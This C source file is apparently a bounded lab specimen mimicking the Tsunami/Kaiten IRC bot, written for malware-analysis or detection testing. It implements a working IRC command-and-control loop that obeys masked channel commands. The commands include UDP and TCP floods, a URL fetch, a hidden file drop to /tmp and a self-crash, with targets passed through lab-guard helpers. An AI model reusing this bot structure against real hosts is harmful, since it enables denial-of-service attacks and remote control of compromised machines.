/*
 * ircbot: a harmless stand-in with the shape of a Tsunami (Kaiten) bot, as
 * public analyses describe it: it registers at an IRC server, joins a channel
 * with a key when it is welcome, and obeys what is said there behind a mask
 * for its nick: ":who PRIVMSG #room :!mask COMMAND words". Answers go back as
 * notices. Bounded like all specimens (common.h, actions.h).
 *
 *   UDP ip port n    n datagrams          TSUNAMI ip n     n connects
 *   GET url file     one HTTP GET         PAN ip port s    a child sends
 *   KILLALL          kills the children   NICK name        takes a nick
 *   VERSION          answers              DROP             writes a file
 *   SERVER           hangs up and comes back
 *   SEGV             dies of SIGSEGV
 */
#include <sys/socket.h>

#include <fnmatch.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "actions.h"
#include "common.h"

#define SERVER_NAME "irc.ircbot.example"
#define SERVER_FALLBACK "198.18.13.38"
#define SERVER_PORT 6667
#define ROOM "#specimens"
#define KEY "harmless"
#define LINE_SIZE 600
#define WORDS_MAX 8
#define IDLE_SECONDS 180
#define DROP_PATH "/tmp/.ircbot"

static int serverSocket = -1;
static char nick[16];

/* Sends one formatted line. */
__attribute__((format(printf, 1, 2))) static int
say(const char *format, ...)
{
	char line[LINE_SIZE];
	va_list ap;

	va_start(ap, format);
	int n = vsnprintf(line, sizeof line - 2, format, ap);
	va_end(ap);
	if (n < 0 || n > (int)sizeof line - 3)
		return -1;
	memcpy(line + n, "\r\n", 2);
	return sendAll(serverSocket, line, (size_t)n + 2);
}

NOINLINE int
recvLine(int fd, char *buf, int size)
{
	int n = 0;
	char c = 0;

	while (c != '\n') {
		if (!waitReadable(fd, IDLE_SECONDS) || recv(fd, &c, 1, 0) != 1)
			return -1;
		if (c != '\n' && c != '\r' && n < size - 1)
			buf[n++] = c;
	}
	buf[n] = '\0';
	return n;
}

/* Fetches http://ADDRESS/PATH, and keeps nothing of it. */
NOINLINE void
fetchUrl(char *url)
{
	char *host = strncmp(url, "http://", 7) == 0 ? url + 7 : url;
	char *path = strchr(host, '/'), text[128] = "/";
	struct in_addr ip;

	if (path != NULL) {
		snprintf(text, sizeof text, "%.120s", path);
		*path = '\0';
	}
	if (labTarget(host, &ip) == 0)
		sendHttp(ip, text);
}

/* Does what a command says; -1 when the connection should end. */
NOINLINE int
processCmd(const char *sender, int argc, char *argv[])
{
	struct in_addr ip;
	int aimed = argc >= 3 && labTarget(argv[1], &ip) == 0;

	if (strcmp(argv[0], "UDP") == 0 && aimed && argc >= 4) {
		sendUdp(ip, atoi(argv[2]), labCount(argv[3], PACKETS_MAX));
	} else if (strcmp(argv[0], "TSUNAMI") == 0 && aimed) {
		sendTcp(ip, 80, labCount(argv[2], PACKETS_MAX));
	} else if (strcmp(argv[0], "GET") == 0 && argc >= 2) {
		fetchUrl(argv[1]);
	} else if (strcmp(argv[0], "PAN") == 0 && aimed && argc >= 4) {
		say("NOTICE %s :panning", sender);
		holdTarget(serverSocket, ip, atoi(argv[2]),
		    labCount(argv[3], SECONDS_MAX));
	} else if (strcmp(argv[0], "KILLALL") == 0) {
		stopChildren();
	} else if (strcmp(argv[0], "NICK") == 0 && argc >= 2) {
		snprintf(nick, sizeof nick, "%.15s", argv[1]);
		say("NICK %s", nick);
	} else if (strcmp(argv[0], "VERSION") == 0) {
		say("NOTICE %s :ircbot, a specimen", sender);
	} else if (strcmp(argv[0], "DROP") == 0) {
		dropFile(DROP_PATH);
	} else if (strcmp(argv[0], "SERVER") == 0) {
		say("QUIT :bye");
		return -1;
	} else if (strcmp(argv[0], "SEGV") == 0) {
		crash();
	}
	return 0;
}

/* What is said in the room: obeyed if it begins with a mask that fits. */
static int
heardInRoom(const char *sender, char *text)
{
	char *argv[WORDS_MAX];
	int argc = splitWords(text, argv, WORDS_MAX);

	if (argc < 2 || argv[0][0] != '!' || fnmatch(argv[0] + 1, nick, 0) != 0)
		return 0;
	return processCmd(sender, argc - 1, argv + 1);
}

/* One line of the server. */
static int
handleLine(char *line)
{
	char *sender = "", *rest = line, *text = strstr(line, " :");

	if (strncmp(line, "PING", 4) == 0)
		return say("PONG%s", line + 4);
	if (line[0] == ':') {
		sender = line + 1;
		rest = strchr(line, ' ');
		if (rest == NULL)
			return 0;
		*rest++ = '\0';
		sender[strcspn(sender, "!")] = '\0';
	}
	if (strncmp(rest, "376", 3) == 0 || strncmp(rest, "422", 3) == 0)
		return say("JOIN %s :%s", ROOM, KEY);
	if (strncmp(rest, "433", 3) == 0) {
		nick[strlen(nick) - 1]++;
		return say("NICK %s", nick);
	}
	if (strncmp(rest, "PRIVMSG ", 8) == 0 && text != NULL)
		return heardInRoom(sender, text + 2);
	return 0;
}

NOINLINE int
initConnection(void)
{
	hangUp(&serverSocket);
	serverSocket = connectServer(SERVER_NAME, SERVER_FALLBACK, SERVER_PORT);
	if (serverSocket == -1)
		return -1;
	snprintf(nick, sizeof nick, "SPC%04d", (int)getpid() % 10000);
	say("NICK %s", nick);
	return say("USER specimen localhost localhost :a specimen");
}

static void
bot(void)
{
	char line[LINE_SIZE];

	for (;;) {
		if (initConnection() == 0) {
			while (recvLine(serverSocket, line, sizeof line) >= 0) {
				reapChildren();
				if (handleLine(line) == -1)
					break;
			}
			hangUp(&serverSocket);
			sleep(1);
		} else
			sleep(5);
	}
}

int
main(void)
{
	labGuard("ircbot");
	keep(bot);
}
